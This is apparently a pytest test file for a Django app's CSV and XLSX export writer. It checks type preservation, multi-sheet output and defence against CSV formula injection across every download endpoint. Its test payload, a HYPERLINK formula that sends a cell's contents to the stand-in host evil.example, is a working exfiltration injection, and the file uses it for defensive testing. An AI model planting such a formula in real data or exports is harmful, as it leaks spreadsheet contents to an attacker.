"""kadans.core.exports, the one writer of every CSV and XLSX download: types kept, several tables, and text
that a spreadsheet would run as a formula written as text (OWASP, CSV injection) — in every download."""

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
import time_machine
from django.utils import timezone
from openpyxl import load_workbook

from kadans.activities.services import CostLineData, activity_create
from kadans.core.exports import Sheet, csv_value, export_response, export_sheets_response
from kadans.relations.models import BusinessStatus
from tests.factories import ActivityTypeFactory, ProductFactory, RelationFactory, UserFactory
from tests.reports_support import done, lunch

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
BXL = zoneinfo.ZoneInfo("Europe/Brussels")


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def read_cells(response):
    """Every sheet's cells as openpyxl reads them back (not values only: the type matters)."""
    book = load_workbook(io.BytesIO(response.content))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book.worksheets}


@pytest.mark.parametrize("text", [PAYLOAD, "+32 9 123 45 67", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_could_be_a_formula_gets_a_quote_in_csv(text):
    assert csv_value(text) == "'" + text
    rows = read_csv(export_response([[text]], ["Name"], format="csv", filename="x"))
    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("text", ["Brouwerij = bier", "Café", "", "1-2-3"])
def test_other_text_is_written_as_it_is(text):
    assert csv_value(text) == text


def test_a_formula_is_a_string_cell_in_xlsx_and_numbers_stay_numbers():
    response = export_response(
        [[PAYLOAD, "+32 9", Decimal("-12.50"), -3, 2.5, "plain"]], ["a", "b", "c", "d", "e", "f"],
        format="xlsx", filename="x",
    )
    (name, plus, amount, count, ratio, plain), = [row for row in read_cells(response)["x"][1:]]
    assert name.value == PAYLOAD and name.data_type == "s" and name.quotePrefix
    assert plus.value == "+32 9" and plus.data_type == "s"
    assert amount.value == Decimal("-12.5") and amount.data_type == "n"
    assert count.value == -3 and count.data_type == "n"
    assert ratio.value == 2.5 and ratio.data_type == "n"
    assert plain.value == "plain" and not plain.quotePrefix


def test_negative_numbers_stay_numbers_in_csv():
    rows = read_csv(export_response([[Decimal("-12.50"), -3]], ["a", "b"], format="csv", filename="x"))
    assert rows[1] == ["-12.50", "-3"]


def test_dates_and_moments():
    moment = datetime.datetime(2026, 3, 1, 13, 30, tzinfo=datetime.UTC)
    row = [[datetime.date(2026, 3, 1), moment, None, True]]
    with timezone.override(BXL):
        rows = read_csv(export_response(row, list("abcd"), format="csv", filename="x"))
        cells = read_cells(export_response(row, list("abcd"), format="xlsx", filename="x"))["x"][1]
    assert rows[1] == ["2026-03-01", "2026-03-01T14:30:00+01:00", "", "True"]
    assert cells[1].value == datetime.datetime(2026, 3, 1, 14, 30)  # the local time: Excel has no time zones
    assert cells[0].value.date() == datetime.date(2026, 3, 1)


def test_a_download_names_its_file_and_streams_csv():
    response = export_response([], ["Name"], format="csv", filename="relations")
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="relations.csv"'
    assert read_csv(response) == [["Name"]]
    response = export_response([], ["Name"], format="xlsx", filename="relations")
    assert response["Content-Disposition"] == 'attachment; filename="relations.xlsx"'
    with pytest.raises(ValueError):
        export_response([], ["Name"], format="pdf", filename="relations")


def test_several_tables_are_titled_blocks_in_csv_and_sheets_in_xlsx():
    sheets = [
        Sheet("Per type", ["Type", "Count"], [["Call", 2]]),
        Sheet("Per type", ["Representative", "Total"], [[PAYLOAD, Decimal("1.00")]], number_formats=["", "#,##0.00"]),
    ]
    assert read_csv(export_sheets_response(sheets, format="csv", filename="r")) == [
        ["Per type"], ["Type", "Count"], ["Call", "2"], [], ["Per type"], ["Representative", "Total"],
        ["'" + PAYLOAD, "1.00"],
    ]
    book = read_cells(export_sheets_response(sheets, format="xlsx", filename="r"))
    assert list(book) == ["Per type", "Per type 2"]  # Excel wants unique names
    name, total = book["Per type 2"][1]
    assert name.data_type == "s" and total.number_format == "#,##0.00"


# -- every download of Kadans writes the payload as text ---------------------------------------------------


@pytest.fixture
def payload_world(db):
    """The payload as a relation's name (as a public lead form could send it), an action type's, a
    product's and a representative's name, on data that every export and report shows."""
    rep = UserFactory(username="rep", first_name=PAYLOAD, last_name="", language="en")
    admin = UserFactory(username="ada", role="administrator", language="en")
    relation = RelationFactory(name=PAYLOAD, representative=rep, phone="+32 9 123 45 67")
    visit = ActivityTypeFactory(name=PAYLOAD)
    product = ProductFactory(name=PAYLOAD, cost_price=Decimal("1.25"))
    done(user=rep, relation=relation, activity_type=visit, day=datetime.date(2025, 3, 3),
         lines=[lunch("30.00", description=PAYLOAD), CostLineData(product=product)],
         new_status=BusinessStatus.objects.get(code="customer"))
    with time_machine.travel(datetime.datetime(2025, 3, 1, 12, tzinfo=BXL), tick=False):
        activity_create(user=rep, relation=relation, activity_type=visit, start=datetime.date(2025, 3, 5),
                        summary=PAYLOAD)
    return {"rep": rep, "admin": admin}


MARCH = {"start": "2025-03-01", "end": "2025-03-31"}
DOWNLOADS = [
    # (who, url, query): every CSV/XLSX download there is; {fmt} is csv or xlsx
    ("rep", "/integrations/export/relations.{fmt}", {}),
    ("rep", "/integrations/export/my-activities.{fmt}", {}),
    ("rep", "/integrations/export/products.{fmt}", {}),
    ("admin", "/reports/costs/", {**MARCH, "group": "relation", "export": "{fmt}"}),
    ("admin", "/reports/costs/", {**MARCH, "group": "representative,type", "export": "{fmt}"}),
    ("admin", "/reports/costs/", {**MARCH, "group": "product", "export": "{fmt}"}),
    ("admin", "/reports/conversions/", {**MARCH, "export": "{fmt}"}),
    ("admin", "/reports/activities/", {**MARCH, "export": "{fmt}"}),
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(("who", "url", "query"), DOWNLOADS, ids=lambda v: v if isinstance(v, str) else None)
def test_every_download_writes_a_formula_as_text(client, payload_world, fmt, who, url, query):
    client.force_login(payload_world[who])
    with time_machine.travel(datetime.datetime(2025, 3, 12, 12, tzinfo=BXL), tick=False):
        response = client.get(url.format(fmt=fmt), {k: v.format(fmt=fmt) for k, v in query.items()})
    assert response.status_code == 200
    if fmt == "csv":
        cells = [cell for row in read_csv(response) for cell in row if "HYPERLINK" in cell]
        assert cells and all(cell == "'" + PAYLOAD for cell in cells)
    else:
        cells = [cell for rows in read_cells(response).values() for row in rows for cell in row
                 if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
        assert cells
        for cell in cells:
            assert cell.value == PAYLOAD and cell.data_type == "s", "openpyxl reads no formula back"
